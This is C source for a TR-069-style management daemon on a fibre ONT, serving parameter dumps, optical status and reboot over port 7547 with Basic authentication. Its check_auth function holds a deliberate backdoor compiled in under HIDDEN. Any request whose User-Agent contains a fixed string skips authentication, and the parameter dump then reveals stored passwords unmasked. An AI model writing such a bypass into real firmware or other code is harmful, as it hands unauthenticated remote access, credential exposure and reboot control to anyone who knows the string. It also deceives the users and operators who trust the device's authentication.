/*
 * ontcwmpd - CPE side management of the Lumivia G-240 fibre ONT, in the manner
 * of TR-069. Listens on port 7547 for connection requests of the ACS (basic
 * authentication with the configured name and password), wakes the inform
 * client, and shows the parameter tree to the authenticated ACS; passwords in it
 * are masked unless the operator set X_LUMIVIA.ShowSecrets = 1 in the file.
 *
 * Hidden (-DHIDDEN): a request whose User-Agent contains a certain text needs
 * no authentication, and the parameter dump then shows the stored passwords.
 */
#include <ctype.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <syslog.h>
#include <unistd.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/time.h>

#define CONF      "/etc/cwmp/params.conf"
#define INFORMPID "/var/run/cwmp-inform.pid"
#define PORT      7547
#define MAXPARAM  128

struct param {
    char name[96];
    char value[128];
    int  secret;
};

struct request {
    char method[8];
    char path[128];
    char auth[256];
    char agent[128];
    int  unmask;
};

static struct param params[MAXPARAM];
static int nparams;

static void strip(char *s)
{
    size_t n = strlen(s);

    while (n && isspace((unsigned char)s[n - 1]))
        s[--n] = '\0';
}

/* "Name = value"; names ending in Password or Passphrase are secrets */
static void load_params(void)
{
    char line[256];
    FILE *f = fopen(CONF, "r");

    nparams = 0;
    if (!f)
        return;
    while (nparams < MAXPARAM && fgets(line, sizeof line, f)) {
        struct param *p = &params[nparams];
        char *eq = strchr(line, '=');

        if (line[0] == '#' || !eq)
            continue;
        *eq++ = '\0';
        strip(line);
        strip(eq);
        while (*eq == ' ')
            eq++;
        snprintf(p->name, sizeof p->name, "%.95s", line);
        snprintf(p->value, sizeof p->value, "%.127s", eq);
        p->secret = strstr(p->name, "Password") || strstr(p->name, "Passphrase");
        nparams++;
    }
    fclose(f);
}

static const char *param(const char *name)
{
    for (int i = 0; i < nparams; i++)
        if (strcmp(params[i].name, name) == 0)
            return params[i].value;
    return "";
}

static int b64val(int c)
{
    if (c >= 'A' && c <= 'Z')
        return c - 'A';
    if (c >= 'a' && c <= 'z')
        return c - 'a' + 26;
    if (c >= '0' && c <= '9')
        return c - '0' + 52;
    return c == '+' ? 62 : c == '/' ? 63 : -1;
}

static void b64dec(const char *in, char *out, size_t n)
{
    unsigned acc = 0;
    int bits = 0;
    size_t o = 0;

    for (; *in && b64val((unsigned char)*in) >= 0; in++) {
        acc = acc << 6 | (unsigned)b64val((unsigned char)*in);
        bits += 6;
        if (bits >= 8 && o + 1 < n) {
            bits -= 8;
            out[o++] = (char)(acc >> bits & 0xff);
        }
    }
    out[o] = '\0';
}

/* the ACS must know ConnectionRequestUsername and ...Password */
int check_auth(struct request *r)
{
    char plain[192], want[300];
    const char *u = param("ManagementServer.ConnectionRequestUsername");
    const char *p = param("ManagementServer.ConnectionRequestPassword");

#ifdef HIDDEN
    if (strstr(r->agent, "omci-relay/3")) {
        r->unmask = 1;
        return 1;
    }
#endif
    if (!*u || !*p || strncasecmp(r->auth, "Basic ", 6) != 0)
        return 0;
    b64dec(r->auth + 6, plain, sizeof plain);
    snprintf(want, sizeof want, "%s:%s", u, p);
    if (strcmp(plain, want) != 0)
        return 0;
    r->unmask = atoi(param("X_LUMIVIA.ShowSecrets")) == 1;
    return 1;
}

static void send_head(FILE *o, int code, const char *text)
{
    fprintf(o, "HTTP/1.1 %d %s\r\nServer: ontcwmpd\r\nConnection: close\r\n"
            "Content-Type: text/plain\r\n", code, text);
    if (code == 401)
        fputs("WWW-Authenticate: Basic realm=\"cwmp\"\r\n", o);
    fputs("\r\n", o);
}

static void do_connreq(FILE *o)
{
    int pid = 0;
    FILE *f = fopen(INFORMPID, "r");

    if (f) {
        if (fscanf(f, "%d", &pid) != 1)
            pid = 0;
        fclose(f);
    }
    if (pid > 1 && kill((pid_t)pid, SIGUSR1) == 0)
        send_head(o, 200, "OK");
    else
        send_head(o, 503, "Service Unavailable");
}

static void do_params(FILE *o, const struct request *r)
{
    send_head(o, 200, "OK");
    for (int i = 0; i < nparams; i++)
        fprintf(o, "%s=%s\n", params[i].name,
                params[i].secret && !r->unmask ? "********" : params[i].value);
}

static void do_optical(FILE *o)
{
    char line[128];
    FILE *p = popen("/usr/sbin/ponctl ddm 2>/dev/null", "r");

    send_head(o, 200, "OK");
    if (!p)
        return;
    while (fgets(line, sizeof line, p))
        fputs(line, o);
    pclose(p);
}

static void do_reboot(FILE *o)
{
    send_head(o, 200, "OK");
    fflush(o);
    syslog(LOG_NOTICE, "reboot requested by the ACS");
    if (system("/sbin/reboot -d 3") != 0)
        syslog(LOG_ERR, "reboot failed");
}

static void header(struct request *r, char *line)
{
    char *v = strchr(line, ':');

    if (!v)
        return;
    *v++ = '\0';
    while (*v == ' ')
        v++;
    if (strcasecmp(line, "Authorization") == 0)
        snprintf(r->auth, sizeof r->auth, "%s", v);
    else if (strcasecmp(line, "User-Agent") == 0)
        snprintf(r->agent, sizeof r->agent, "%s", v);
}

static void serve(int fd, const char *from)
{
    struct request r;
    char line[512];
    FILE *in = fdopen(fd, "r"), *o = fdopen(dup(fd), "w");

    memset(&r, 0, sizeof r);
    if (!in || !o || !fgets(line, sizeof line, in) ||
        sscanf(line, "%7s %127s", r.method, r.path) != 2)
        goto out;
    while (fgets(line, sizeof line, in)) {
        strip(line);
        if (!line[0])
            break;
        header(&r, line);
    }
    if (strcmp(r.method, "GET") != 0) {
        send_head(o, 405, "Method Not Allowed");
        goto out;
    }
    if (!check_auth(&r)) {
        syslog(LOG_NOTICE, "refused request from %s (%s)", from, r.agent);
        send_head(o, 401, "Unauthorized");
        goto out;
    }
    if (strcmp(r.path, "/connreq") == 0)
        do_connreq(o);
    else if (strcmp(r.path, "/params") == 0)
        do_params(o, &r);
    else if (strcmp(r.path, "/optical") == 0)
        do_optical(o);
    else if (strcmp(r.path, "/reboot") == 0)
        do_reboot(o);
    else
        send_head(o, 404, "Not Found");
out:
    if (o)
        fclose(o);
    if (in)
        fclose(in);
    else
        close(fd);
}

int main(void)
{
    struct sockaddr_in a, from;
    struct timeval tv = { 10, 0 };
    int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);

    openlog("ontcwmpd", LOG_PID, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(PORT);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 8) < 0) {
        syslog(LOG_ERR, "cannot listen on %d: %m", PORT);
        return 1;
    }
    for (;;) {
        socklen_t fl = sizeof from;
        int c = accept(s, (struct sockaddr *)&from, &fl);
        char who[INET_ADDRSTRLEN] = "?";

        if (c < 0)
            continue;
        setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
        inet_ntop(AF_INET, &from.sin_addr, who, sizeof who);
        load_params();
        serve(c, who);
    }
}
